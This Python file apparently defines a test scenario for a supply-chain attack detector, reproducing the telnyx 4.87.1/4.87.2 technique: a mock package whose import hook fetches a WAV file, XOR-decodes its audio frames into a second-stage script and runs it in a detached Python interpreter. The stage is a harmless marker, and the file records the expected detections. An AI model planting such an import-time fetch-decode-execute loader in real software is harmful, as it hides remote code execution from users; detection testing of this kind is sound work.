"""A second stage in the frames of a sound file, piped into a child interpreter: telnyx 4.87.1/4.87.2."""

import io
import wave

from payloads import TOOLS, app, quietly
from scenario import Expected, Scenario
from support.wheels import Wheel

KEY = 0x5A
STAGE = TOOLS + 'mark("from-the-sound")\nprint("second stage")\n'
DECODE = f"""
import io, subprocess, sys, wave
with wave.open(io.BytesIO(fetch("/ringtone.wav"))) as sound:
    script = bytes(byte ^ {KEY} for byte in sound.readframes(sound.getnframes())).rstrip(b"\\0")
subprocess.run([sys.executable, "-"], input=script, start_new_session=True, timeout=10)
"""


def ringtone():
    """Return a playable WAV file whose frames are the second stage, each byte changed by KEY."""
    file = io.BytesIO()
    with wave.open(file, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8000)
        sound.writeframes(bytes(byte ^ KEY for byte in STAGE.encode()))
    return file.getvalue()


SCENARIOS = (
    Scenario(
        row=6,
        story="importing the client fetches a WAV and runs what its frames decode to",
        models=("telnyx 4.87.1", "telnyx 4.87.2"),
        techniques=("T1195.002", "T1105", "T1027.003", "T1140", "T1059.006"),
        wheels=(
            Wheel(
                "acme-telephony",
                "4.88.3",
                {"acme_telephony/__init__.py": "from . import _client\n", "acme_telephony/_client.py": quietly(DECODE)},
            ),
        ),
        app=app("import acme_telephony"),
        pages={"/ringtone.wav": ringtone()},
        achieves=("GET:/ringtone.wav", "wrote:home/from-the-sound.mark"),
        denied=(Expected("net.connect", "acme-telephony", "import", "127.0.0.1:*"),),
        then=(Expected("proc.spawn", "acme-telephony", "import", "*python*"),),
    ),
)
